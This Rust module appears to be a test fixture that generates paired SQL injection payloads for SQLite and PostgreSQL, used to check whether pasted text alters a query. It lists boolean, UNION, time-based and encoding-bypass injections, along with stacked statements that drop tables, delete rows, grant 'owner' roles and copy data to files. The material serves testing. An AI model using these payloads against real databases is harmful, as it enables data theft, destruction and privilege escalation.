//! Texts that mean something where they are pasted into SQL, on SQLite, on
//! PostgreSQL or in the engine that answers questions. Written with `{}` where
//! the twins differ.

/// `7301={}` is true of this one …
pub const TRUE: &str = "7301";
/// … and false of that one; the two are as long and as unlike all else.
pub const FALSE: &str = "7302";

#[derive(Debug, Clone)]
pub struct Payload {
    template: String,
    /// A text in no language of ours, so that it may also stand where an
    /// expression is expected: for the parser it is wrong in any case.
    pub is_foreign: bool,
}

impl Payload {
    pub fn of(&self, twin: &str) -> String {
        self.template.replace("{}", twin)
    }
}

/// How a text leaves the place where a value is expected, and what it leaves
/// behind so that the statement is whole again.
const WAYS_OUT: [(&str, &str); 14] = [
    ("", ""),
    ("1 or ", ""),
    ("' or ", " --"),
    ("' or ", " or '1'='2"),
    ("') or (", ") --"),
    ("')) or ((", ")) --"),
    ("\" or ", " --"),
    ("\") or (", ") or (\"1\"=\"2"),
    ("%' or ", " or '%'='"),
    ("x' or ", "/*"),
    ("'/**/or/**/", "--\t"),
    ("'\n or ", "\n--"),
    ("\\' or ", " --"),
    ("' || (", ") || '"),
];

/// What is asked once the text is out.
const CONDITIONS: [&str; 4] = [
    "7301={}",
    "exists(select 7301 where 7301={})",
    "(select case when 7301={} then 1 else 1/(select 0) end)=1",
    "(select count(*) from customer)>(case when 7301={} then 0 else 999999 end)",
];

/// Whole texts, each for a way of its own.
const OTHERS: [&str; 38] = [
    // In the place of a name, an order or a limit.
    "(case when 7301={} then name else number end)",
    "name, (select case when 7301={} then 1 else 1/0 end)",
    "name limit (case when 7301={} then 1 else 0 end)",
    "name desc nulls last, (case when 7301={} then id else -id end) --",
    "name collate nocase, (case when 7301={} then 1 end)",
    "id) from customer where 7301={} --",
    "name\" from customer where 7301={} --",
    "*, (select 7301 where 7301={})",
    // Another set of rows.
    "' union select {} --",
    "' union all select null,null,{} --",
    "x') union select name from customer where 7301={} --",
    "-1 union select sql from sqlite_master where 7301={}",
    "-1 union select usename from pg_user where 7301={}",
    // Further statements.
    "'; select {}; --",
    "1; select {}",
    "'; drop table customer; select {} --",
    "'; delete from order_line where 7301={} --",
    "'); update \"user\" set role='owner' where 7301={} --",
    "1; copy customer to '/tmp/keji-{}' --",
    "'; attach database '/tmp/keji-{}' as x --",
    "1; insert into customer(name) values('{}')",
    // What takes long if it is computed.
    "' or (select pg_sleep(case when 7301={} then 5 else 0 end)) is null --",
    "1 or (select pg_sleep(case when 7301={} then 5 else 0 end)) is null",
    "' or length(randomblob(case when 7301={} then 900000000 else 1 end))>0 --",
    "' or (with recursive r(n) as (select 1 union all select n+1 from r where n<(case when 7301={} then 20000000 else 2 end)) select count(*) from r)>0 --",
    "' or (select count(*) from generate_series(1,case when 7301={} then 99999999 else 1 end))>0 --",
    "' or like('abc%',upper(hex(randomblob(case when 7301={} then 400000000 else 1 end)))) --",
    // Quotes by another name, which something may turn into quotes later.
    "%27 or 7301={} --",
    "%2527 or 7301={} --",
    "&#39; or 7301={} --",
    "\\u0027 or 7301={} --",
    "\u{2019} or 7301={} --",
    "\u{ff07} or 7301={} --",
    "\u{02bc} or 7301={} --",
    "\u{0}' or 7301={} --",
    "\u{bf}' or 7301={} --",
    "$$ or 7301={} -- $$",
    "' or 7301={} # ",
];

/// Whatever has one of these is in no language of ours, wherever it stands.
const FOREIGN: [&str; 6] = ["select", ";", "collate", "union", "/*", "limit"];

pub fn all() -> Vec<Payload> {
    let made = WAYS_OUT.iter().flat_map(|(out, back)| {
        let conditions = CONDITIONS.iter();
        conditions.map(move |condition| format!("{out}{condition}{back}"))
    });
    let others = OTHERS.iter().map(|text| (*text).to_owned());
    made.chain(others)
        .map(|template| Payload {
            is_foreign: FOREIGN.iter().any(|word| template.contains(word)),
            template,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn twins_differ_in_their_number_alone() {
        let all = all();
        assert_eq!(all.len(), 94);
        for payload in &all {
            let (yes, no) = (payload.of(TRUE), payload.of(FALSE));
            assert_ne!(yes, no, "{yes}");
            assert_eq!(no.replace(FALSE, TRUE), yes);
        }
    }
}
